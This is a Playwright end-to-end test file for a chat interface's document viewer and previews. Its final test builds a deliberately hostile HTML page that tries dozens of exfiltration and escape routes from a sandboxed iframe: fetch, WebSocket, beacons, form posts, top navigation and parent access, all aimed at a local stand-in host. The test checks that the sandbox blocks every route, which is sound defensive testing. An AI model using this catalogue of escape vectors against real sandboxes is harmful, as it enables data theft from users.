import { createServer, type Socket } from "node:net";
import path from "node:path";
import type { Frame, Locator, Page } from "@playwright/test";
import { projectRoot } from "./demoServer.ts";
import { png } from "./files.ts";
import { expect, test } from "./fixtures.ts";
import type { ChatPage } from "./page.ts";

/** Answers that are more than words: pages, previews, tables and values. A worker recites them from e2e/answers. */

test.use({ serverOptions: { worker: path.join(import.meta.dirname, "recitingWorker.ts") } });

/** A white page with a red picture where the answers say that one is. */
function pagePicture(): Buffer {
  const [width, height] = [400, 600];
  const rows = Array.from({ length: height }, (_, y) => {
    const row = Buffer.alloc(1 + 3 * width, 255);
    row[0] = 0;
    for (let x = 40; x < 192; x++) if (y >= 90 && y < 360) row.set([200, 30, 30], 1 + 3 * x);
    return row;
  });
  return png(width, height, Buffer.concat(rows));
}

async function recite(chat: ChatPage, name: string, number = 1): Promise<Locator> {
  if (number === 1) {
    await chat.attach([{ name: "page.png", type: "image/png", bytes: pagePicture() }]);
    await chat.uploaded(["page.png"]);
  }
  await chat.ask(`recite ${name}`);
  return chat.ended(number);
}

const viewer = (page: Page): Locator => page.getByRole("complementary", { name: "Viewer" });

async function frameIn(page: Page, title: string | RegExp): Promise<Frame> {
  const element = await viewer(page).locator("iframe").and(page.getByTitle(title)).elementHandle();
  const frame = await element.contentFrame();
  if (!frame) throw new Error(`There is no frame ${title}.`);
  return frame;
}

test.describe("a page as HTML", () => {
  // The browser notes the handlers that it refuses while the page is being cleaned of them.
  test.use({ allowedErrors: /Executing inline event handler violates/ });

  test("is shown on its picture, clean, and as source, and its parts light up in all three", async ({ chat, page }) => {
    const answer = await recite(chat, "document-html");
    await answer.getByRole("button", { name: /^Document/ }).click();
    const panel = viewer(page);
    const title = panel.locator("[data-part]").first();
    await expect(panel.locator("[data-part]")).toHaveCount(8);

    // The words light up with the box, and the box with the words.
    // The larger one comes first: smaller ones are above it.
  await panel.locator("[data-part]").first().hover();
    await expect(answer.locator("mark[data-lit]").first()).toBeVisible();
    await answer.getByRole("button", { name: /^Show all/ }).or(answer.locator("figure")).first().scrollIntoViewIfNeeded();
    await answer.getByText("Harbour notes").hover();
    await expect(panel.locator("[data-part][data-lit]")).toHaveCount(1);
    await expect(title).toBeVisible();

    await panel.getByRole("tab", { name: "Clean" }).click();
    const frame = await frameIn(page, "The document without its marks");
    await expect(frame.locator("h1")).toHaveText("Harbour notes");
    await expect(frame.locator("math")).toHaveCount(2);
    await expect(frame.locator("td").first()).toHaveText("Monday");
    // The picture is the red one of the page; the formula was read and needs none.
    await expect(frame.locator("img")).toHaveCount(1);
    const color = await frame.locator("img").evaluate(async (element) => {
      if (!(element instanceof HTMLImageElement)) return [];
      await element.decode();
      const context = new OffscreenCanvas(1, 1).getContext("2d");
      context?.drawImage(element, 0, 0, 1, 1);
      return [...(context?.getImageData(0, 0, 1, 1).data ?? [])];
    });
    expect(Math.abs((color[0] ?? 0) - 200)).toBeLessThan(8);
    expect(color[1]).toBeLessThan(40);
    expect(await frame.title()).not.toBe("ran");
    await expect(frame.locator("script, [onerror], a[href]")).toHaveCount(0);
    await frame.locator("h1").hover();
    await expect(frame.locator("h1")).toHaveAttribute("data-lit", "");
    await expect(answer.locator("mark[data-lit]").first()).toContainText("Harbour notes");

    await panel.getByRole("tab", { name: "Source" }).click();
    await panel.locator("mark").filter({ hasText: "old pier" }).last().hover();
    await expect(panel.locator("mark[data-lit]")).toContainText("The old pier");
    const download = page.waitForEvent("download");
    await panel.getByRole("button", { name: "Download" }).first().click();
    expect((await download).suggestedFilename()).toBe("document.html");
  });
});

test("a page as Markdown has its picture cut from the page and its LaTeX table as a table", async ({ chat, page }) => {
  const answer = await recite(chat, "document-markdown");
  await expect(answer.getByRole("cell", { name: "no other day" })).toHaveAttribute("colspan", "2");
  await expect(answer).not.toContainText("<!--");
  await answer.getByRole("button", { name: /^Document/ }).click();
  const panel = viewer(page);
  await expect(panel.locator("[data-part]")).toHaveCount(2);
  // The words of a part light it up, and it lights up them.
  await answer.locator("mark", { hasText: "The old pier" }).hover();
  await expect(panel.locator("[data-part][data-lit]")).toHaveCount(1);
  await panel.locator("[data-part]").first().hover(); // the larger one
  await expect(answer.locator("div[data-lit]").getByRole("table")).toBeVisible();
  await panel.getByRole("tab", { name: "Clean" }).click();
  await expect(panel.getByRole("img", { name: "Picture" })).toBeVisible();
  await expect(panel.getByRole("columnheader", { name: "High" })).toBeVisible();
  await panel.getByText("The old pier").hover();
  await expect(panel.locator("section[data-lit]")).toContainText("The old pier");
  await panel.getByRole("tab", { name: "Source" }).click();
  await expect(panel).toContainText("<!-- Image (100,150,480,600) -->");
});

test("parts of a document of two pages lie on the page that the answer says", async ({ chat, page }) => {
  await chat.attach(["one.png", "two.png"].map((name, index) => ({ name, type: "image/png", bytes: png(60 + index, 90, Buffer.alloc(90 * (1 + 3 * (60 + index)))) })));
  await chat.uploaded(["one.png", "two.png"]);
  await chat.ask("recite document-pages");
  const answer = await chat.ended(1);
  await answer.getByRole("button", { name: /^Document/ }).click();
  const panel = viewer(page);
  const strip = panel.getByRole("list", { name: "Pages" }).getByRole("button");
  await expect(strip).toHaveCount(2);
  await expect(strip.first()).toHaveAttribute("aria-current", "page");
  await expect(panel.locator("[data-part]")).toHaveCount(1);
  // What is pointed at is brought into sight.
  await answer.locator("mark", { hasText: "4.2 m" }).hover();
  await expect(strip.nth(1)).toHaveAttribute("aria-current", "page");
  await expect(panel.locator("[data-part][data-lit]")).toHaveCount(1);
});

test("a web page runs beside the picture, and what goes wrong in it is said", async ({ chat, page }) => {
  const answer = await recite(chat, "preview-page");
  await answer.getByRole("button", { name: /Web page/ }).click();
  const panel = viewer(page);
  await expect(panel.getByRole("img", { name: "Picture of the question: page.png" })).toBeVisible();
  const frame = await frameIn(page, "Preview: Web page");
  await frame.getByRole("button").click();
  await frame.getByRole("button").click();
  await expect(frame.getByRole("button")).toHaveText("2");
  await expect(panel.getByText("ready to count")).toBeVisible();
  await expect(panel.getByText(/undefinedFunction is not defined/)).toBeVisible();
  await panel.getByRole("radio", { name: "Phone" }).click();
  await expect.poll(() => frame.evaluate(() => window.innerWidth)).toBe(390);
  await panel.getByRole("radio", { name: "Desktop" }).click();
  await expect.poll(() => frame.evaluate(() => window.innerWidth)).toBe(1280);
  await panel.getByRole("button", { name: "Run again" }).click();
  await expect((await frameIn(page, "Preview: Web page")).getByRole("button")).toHaveText("0");
  await panel.getByRole("button", { name: "Show the picture beside it" }).click();
  await expect(panel.getByRole("img", { name: "Picture of the question: page.png" })).toBeHidden();
  await panel.getByRole("tab", { name: "Source" }).click();
  await expect(panel).toContainText("let count = 0;");
});

test("drawings and diagrams are drawn", async ({ chat, page }) => {
  const answer = await recite(chat, "preview-drawings");
  await answer.getByRole("button", { name: /Drawing/ }).click();
  let frame = await frameIn(page, "Preview: Drawing");
  await expect(frame.locator("circle")).toBeVisible();
  expect(await frame.title()).not.toBe("ran");
  await answer.getByRole("button", { name: /Diagram/ }).click();
  await expect(viewer(page).getByTitle("Preview: Diagram")).toBeVisible({ timeout: 30_000 });
  frame = await frameIn(page, "Preview: Diagram");
  await expect(frame.locator("svg")).toContainText("Harbour");
});

test("values are a form, and their JSON is folded below", async ({ chat, page }) => {
  const answer = await recite(chat, "receipt");
  await expect(answer.getByRole("row", { name: "company Corner Shop" })).toBeVisible();
  await expect(answer.getByRole("columnheader", { name: "price" })).toBeVisible();
  await expect(answer.getByText('"company"')).toBeHidden();
  await answer.getByRole("button", { name: "Copy as CSV" }).click();
  await expect.poll(() => page.evaluate(() => navigator.clipboard.readText())).toContain('items[0].name,"Tea, green"');
});

test("a table sorts by its columns and is taken along; prices are no formulas; code wraps and is saved", async ({ chat, page }) => {
  const answer = await recite(chat, "table");
  const first = answer.getByRole("row").nth(1);
  await answer.getByRole("button", { name: "Fee" }).click();
  await expect(first).toContainText("South");
  await expect(answer.getByRole("columnheader", { name: "Fee" })).toHaveAttribute("aria-sort", "ascending");
  await answer.getByRole("button", { name: "Fee" }).click();
  await expect(first).toContainText("North");
  await answer.getByRole("button", { name: "Copy as CSV" }).click();
  await expect.poll(() => page.evaluate(() => navigator.clipboard.readText())).toBe('Harbour,Ships,Fee\r\nNorth,12,"$1,200"\r\nWest,101,$300\r\nSouth,9,$90\r\n');
  await expect(answer).toContainText("between $5 and $10");
  await expect(answer.locator(".katex")).toHaveCount(1);
  const download = page.waitForEvent("download");
  await answer.getByRole("button", { name: "Download", exact: true }).click();
  expect((await download).suggestedFilename()).toBe("answer.py");
  await answer.getByRole("button", { name: "Wrap long lines" }).click();
  await expect.poll(() => answer.locator("pre").evaluate((pre) => pre.scrollWidth - pre.clientWidth)).toBe(0);
});

test("a page of a document that the answer names comes into the viewer", async ({ chat, page }) => {
  const pages = ["report-1.png", "report-2.png"].map((name) => path.join(projectRoot, "public", "gallery", name));
  await chat.ask("There is a table on page 2, and none on page 7.", pages);
  const answer = await chat.ended(1);
  await answer.getByRole("button", { name: "page 2", exact: true }).click();
  await expect(viewer(page)).toContainText("report-2.png");
  await expect(answer.getByRole("button", { name: "page 7" })).toHaveCount(0);
});

test.describe("a hostile page in the frame", () => {
  // The browser notes what it refuses.
  test.use({ allowedErrors: /./ });

  test("sends nothing to a server, and reaches no other window and nothing of the page", async ({ chat, page, server }) => {
    expect((await page.request.get(`${server.url}/preview.html`)).headers()["content-security-policy"]).toContain("sandbox allow-scripts");
    /** What was asked for; "" by a connection that only was made. */
    const asked: string[] = [];
    const sockets: Socket[] = [];
    const outside = createServer((socket) => {
      sockets.push(socket);
      const index = asked.push("") - 1;
      socket.on("error", () => undefined).on("data", (data) => {
        asked[index] = data.toString("latin1").split("\r\n", 1)[0] ?? "";
        socket.destroy();
      });
    });
    await new Promise<void>((resolve) => outside.listen(0, "127.0.0.1", resolve));
    const listening = outside.address();
    if (typeof listening !== "object" || listening === null) throw new Error("The outside does not listen.");
    const address = page.url();
    try {
      await expect(chat.message).toBeVisible();
      await page.evaluate(
        (html) =>
          new Promise<void>((resolve) => {
            const frame = document.createElement("iframe");
            frame.src = "/preview.html";
            frame.sandbox.add("allow-scripts");
            Object.assign(frame.style, { position: "fixed", inset: "0", zIndex: "99", width: "100%", height: "100%" });
            const heard: unknown[] = [];
            Object.assign(window, { heard });
            window.addEventListener("message", ({ data, source }: MessageEvent<unknown>) => {
              if (source !== frame.contentWindow) return;
              heard.push(data);
              if (heard.length > 1) return;
              frame.contentWindow?.postMessage({ type: "run", html }, "*");
              resolve();
            });
            document.body.append(frame);
          }),
        hostilePage(`127.0.0.1:${listening.port}`),
      );
      await expect.poll(() => page.evaluate(() => JSON.stringify(Reflect.get(window, "heard"))), { timeout: 20_000 }).toContain("tried everything");
      const frame = page.frames().find((candidate) => candidate.parentFrame() !== null);
      await frame?.locator("#link").click();
      await frame?.locator("#send").click();
      await page.waitForTimeout(500);
      expect(new URL(frame?.url() ?? "").pathname).toBe("/preview.html");
      await frame?.locator("#leave").click();
      await page.waitForTimeout(1500);
      const heard = await page.evaluate(() => JSON.stringify(Reflect.get(window, "heard")));
      expect(heard).not.toContain("LEAK");
      // Not even a connection is made, which Chromium would do before it looks at the policy that forbids a frame to go somewhere.
      expect(asked).toEqual([]);
      expect(page.url()).toBe(address);
      expect(page.context().pages()).toHaveLength(1);
      expect(await page.evaluate(() => "reached" in window)).toBe(false);
    } finally {
      for (const socket of sockets) socket.destroy();
      await new Promise((resolve) => outside.close(resolve));
    }
  });
});

/** Tries every way out that a page has. What gets through says LEAK, or connects. */
function hostilePage(host: string): string {
  const at = `http://${host}`;
  return `<!doctype html><html><head>
<meta http-equiv="refresh" content="0;url=${at}/refresh">
<meta http-equiv="Content-Security-Policy" content="default-src *">
<base href="${at}/">
<link rel="prefetch" href="${at}/prefetch"><link rel="preload" as="image" href="${at}/preload"><link rel="stylesheet" href="${at}/style.css">
<link rel="preconnect" href="${at}"><link rel="dns-prefetch" href="//${host}"><link rel="icon" href="${at}/icon"><link rel="modulepreload" href="${at}/module.js">
<style>@import "${at}/import.css"; body { background: url(${at}/background.png) } @font-face { font-family: f; src: url(${at}/font.woff) } p { font-family: f }</style>
<script src="${at}/script.js"></script>
</head><body><p>text</p>
<img src="${at}/image.png" srcset="${at}/image2.png 2x"><video src="${at}/clip.mp4" poster="${at}/poster.png" autoplay></video><audio src="${at}/sound.mp3"></audio>
<iframe src="${at}/frame"></iframe><object data="${at}/object"></object><embed src="${at}/embed"><svg><image href="${at}/svg.png"/><use href="${at}/use.svg#a"/></svg>
<a id="link" href="${at}/link" ping="${at}/ping" target="_top">link</a>
<form action="${at}/form" method="post" target="_blank"><input name="secret" value="1"><button id="send">send</button></form>
<button id="leave">leave</button>
<script>
const tell = (text) => parent.postMessage({ type: "console", level: "log", text }, "*");
const attempts = [
  () => fetch("${at}/fetch", { mode: "no-cors" }).then(() => tell("LEAK fetch")),
  () => { const request = new XMLHttpRequest(); request.open("GET", "${at}/xhr"); request.send(); },
  () => new WebSocket("ws://${host}/socket"),
  () => new EventSource("${at}/events"),
  () => navigator.sendBeacon("${at}/beacon", "x"),
  () => import("${at}/module.js").then(() => tell("LEAK import")),
  () => new Worker(URL.createObjectURL(new Blob(["fetch('${at}/worker')"]))),
  () => { new Image().src = "${at}/image3.png"; },
  () => { const frame = document.createElement("iframe"); frame.src = "${at}/frame2"; document.body.append(frame); },
  () => { const frame = document.createElement("iframe"); frame.srcdoc = "<img src='${at}/srcdoc.png'><script>fetch('${at}/srcdoc')<\\/script>"; document.body.append(frame); },
  () => { const script = document.createElement("script"); script.src = "${at}/script2.js"; document.body.append(script); },
  () => { const link = document.createElement("link"); link.rel = "prefetch"; link.href = "${at}/prefetch2"; document.head.append(link); },
  () => { if (window.open("${at}/open")) tell("LEAK open"); },
  () => { document.forms[0].submit(); },
  () => { top.location = "${at}/top"; },
  () => { parent.location.href = "${at}/parent"; },
  () => { parent.reached = true; tell("LEAK parent"); },
  () => { tell("LEAK document " + parent.document.title); },
  () => { document.cookie = "a=b"; tell("LEAK cookie"); },
  () => { localStorage.setItem("a", "b"); tell("LEAK storage"); },
  () => { indexedDB.open("a"); tell("LEAK database"); },
  () => { if (window.RTCPeerConnection) tell("LEAK peer"); },
  () => fetch("/api/config").then(() => tell("LEAK own server")),
];
for (const attempt of attempts) try { Promise.resolve(attempt()).catch(() => undefined); } catch {}
tell("tried everything");
leave.addEventListener("click", () => {
  const meta = document.createElement("meta"); meta.httpEquiv = "refresh"; meta.content = "0;url=${at}/refresh2"; document.head.append(meta);
  setTimeout(() => { location.href = "${at}/location"; }, 500);
});
</script></body></html>`;
}
